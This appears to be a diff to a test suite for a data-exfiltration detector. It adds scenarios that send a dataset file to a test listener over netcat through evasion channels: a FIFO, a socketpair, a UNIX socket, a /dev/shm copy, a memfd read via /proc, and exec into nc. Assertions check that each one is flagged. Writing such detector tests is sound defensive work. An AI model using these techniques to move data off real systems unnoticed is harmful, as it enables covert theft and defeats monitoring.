@@ -190,6 +190,89 @@ NCL_PID=$!
 wait $NCL_PID
 wait $RELAY_PID
 
+# 11. FIFO
+mkfifo "$T/fifo"
+listen "$EXT" tcp 10.199.1.2 9011 "$T/recv11" || exit 1
+/usr/bin/cat "$T/ds/sub/c.bin" >"$T/fifo" &
+/usr/bin/nc -w 10 -N 10.199.1.2 9011 <"$T/fifo" &
+FIFO_PID=$!
+wait $FIFO_PID
+
+# 12. socketpair: a forked child reads the dataset and hands it to its parent, who sends it
+listen "$EXT" tcp 10.199.1.2 9012 "$T/recv12" || exit 1
+$PY -c "
+import os, socket
+a, b = socket.socketpair()
+if os.fork() == 0:
+    a.close(); b.sendall(open('$T/ds/sub/c.bin', 'rb').read()); os._exit(0)
+b.close(); data = b''
+while True:
+    chunk = a.recv(65536)
+    if not chunk: break
+    data += chunk
+os.wait()
+socket.create_connection(('10.199.1.2', 9012), timeout=10).sendall(data)
+" &
+SPAIR_PID=$!
+wait $SPAIR_PID
+
+# 13. a named UNIX stream socket between two processes
+listen "$EXT" tcp 10.199.1.2 9013 "$T/recv13" || exit 1
+$PY -c "
+import socket, sys
+ls = socket.socket(socket.AF_UNIX); ls.bind('$T/unix.sock'); ls.listen(1); ls.settimeout(20)
+open('$T/unix.ready', 'w').close()
+c, _ = ls.accept(); c.settimeout(20); data = b''
+while True:
+    chunk = c.recv(65536)
+    if not chunk: break
+    data += chunk
+socket.create_connection(('10.199.1.2', 9013), timeout=10).sendall(data)
+" &
+USRV_PID=$!
+for i in $(seq 100); do [ -e "$T/unix.ready" ] && break; sleep 0.05; done
+/usr/bin/cat "$T/ds/sub/c.bin" | /usr/bin/nc -w 10 -N -U "$T/unix.sock" &
+wait $!
+wait $USRV_PID
+
+# 14. a copy in /dev/shm, uploaded by another process
+SHM=/dev/shm/dt-test-$$
+/usr/bin/cp "$T/ds/sub/c.bin" "$SHM" &
+SHMCP_PID=$!
+wait $SHMCP_PID
+listen "$EXT" tcp 10.199.1.2 9014 "$T/recv14" || exit 1
+/usr/bin/nc -w 10 -N 10.199.1.2 9014 <"$SHM" &
+SHMNC_PID=$!
+wait $SHMNC_PID
+rm -f "$SHM"
+
+# 15. a memfd written by a tainted process, read through /proc by an unrelated one
+$PY -c "
+import os, time
+fd = os.memfd_create('stash')
+os.write(fd, open('$T/ds/sub/c.bin', 'rb').read())
+open('$T/memfd.ready', 'w').write(str(fd))
+time.sleep(20)
+" &
+MEMFD_PID=$!
+PIDS_TO_KILL="$PIDS_TO_KILL $MEMFD_PID"
+for i in $(seq 100); do [ -s "$T/memfd.ready" ] && break; sleep 0.05; done
+listen "$EXT" tcp 10.199.1.2 9015 "$T/recv15" || exit 1
+/usr/bin/nc -w 10 -N 10.199.1.2 9015 <"/proc/$MEMFD_PID/fd/$(cat "$T/memfd.ready")" &
+MEMNC_PID=$!
+wait $MEMNC_PID
+kill $MEMFD_PID
+
+# 16. taint survives exec: python reads the dataset, then becomes nc and sends other bytes
+listen "$EXT" tcp 10.199.1.2 9016 "$T/recv16" || exit 1
+$PY -c "
+import os
+open('$T/ds/sub/c.bin', 'rb').read()
+os.execv('/usr/bin/nc', ['nc', '-w', '10', '-N', '10.199.1.2', '9016'])
+" <"$T/plain.bin" &
+EXEC_PID=$!
+wait $EXEC_PID
+
 sleep 0.5
 agent_stop
 
@@ -286,6 +369,42 @@ test_loopback_relay() {
 	ASSERT_EQ "$(finding exfiltration $RELAY_PID unmapped.via.hop)" loopback "tainted over loopback"
 	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$NCL_PID)" 0 \
 		"loopback is a channel, not egress"
+}
+
+test_fifo() {
+	ASSERT_EQ "$(finding exfiltration $FIFO_PID unmapped.bytes)" 5000 "bytes through a FIFO"
+	ASSERT_EQ "$(finding exfiltration $FIFO_PID unmapped.via.hop)" pipe "hop"
+}
+
+test_socketpair() {
+	ASSERT_EQ "$(stat -c %s "$T/recv12")" 5000 "bytes arrived"
+	ASSERT_EQ "$(finding exfiltration $SPAIR_PID unmapped.bytes)" 5000 "parent's exfiltration"
+	ASSERT_EQ "$(finding exfiltration $SPAIR_PID unmapped.via.hop)" unix "tainted by its child"
+}
+
+test_unix_socket() {
+	ASSERT_EQ "$(finding exfiltration $USRV_PID unmapped.bytes)" 5000 "server's exfiltration"
+	ASSERT_EQ "$(finding exfiltration $USRV_PID unmapped.via.hop)" unix "hop"
+}
+
+test_dev_shm_copy() {
+	ASSERT_EQ "$(finding derived_copy $SHMCP_PID evidences.0.file.path)" "$SHM" "copy in /dev/shm"
+	ASSERT_EQ "$(finding derived_copy $SHMCP_PID unmapped.bytes)" 5000 "bytes"
+	ASSERT_EQ "$(finding exfiltration $SHMNC_PID unmapped.bytes)" 5000 "upload of the copy"
+}
+
+test_memfd() {
+	# It also wrote memfd.ready, a second derived file: look at every copy it made.
+	ASSERT_HAS "$($EVQ "$FI" values evidences.0.file.path --where finding_info.types.0=derived_copy \
+		--where evidences.0.process.pid=$MEMFD_PID)" "memfd:stash" "memfd"
+	ASSERT_EQ "$(finding exfiltration $MEMNC_PID unmapped.bytes)" 5000 "upload from the memfd"
+	ASSERT_EQ "$(finding exfiltration $MEMNC_PID resources.0.uid)" faces "dataset"
+}
+
+test_taint_survives_exec() {
+	ASSERT_EQ "$(finding exfiltration $EXEC_PID evidences.0.process.name)" nc "named after exec"
+	ASSERT_EQ "$(finding exfiltration $EXEC_PID evidences.0.process.file.path)" /usr/bin/nc "exe"
+	ASSERT_EQ "$(finding exfiltration $EXEC_PID unmapped.bytes)" 5000 "bytes"
 }
 
 run_tests dataflow
